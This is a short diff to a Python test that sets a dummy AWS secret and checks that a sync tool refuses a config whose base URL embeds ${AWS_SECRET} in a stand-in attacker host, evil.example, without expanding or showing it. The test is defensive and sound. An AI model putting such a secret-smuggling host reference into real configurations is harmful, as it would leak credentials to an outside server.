@@ -205,6 +205,7 @@ def test_no_command_sends_what_was_not_granted(
 
 
 def test_a_variable_in_the_name_of_the_host_is_neither_looked_up_nor_shown() -> None:
+    os.environ["AWS_SECRET"] = "AWS-S3CRET-0123"
     written(f"client: {{base_url: 'https://${{AWS_SECRET}}.evil.example'}}\nresources: [{LIST}]")
     told = refusal("sync", "--source", "shop.yaml")
     assert "${AWS_SECRET}.evil.example" in told
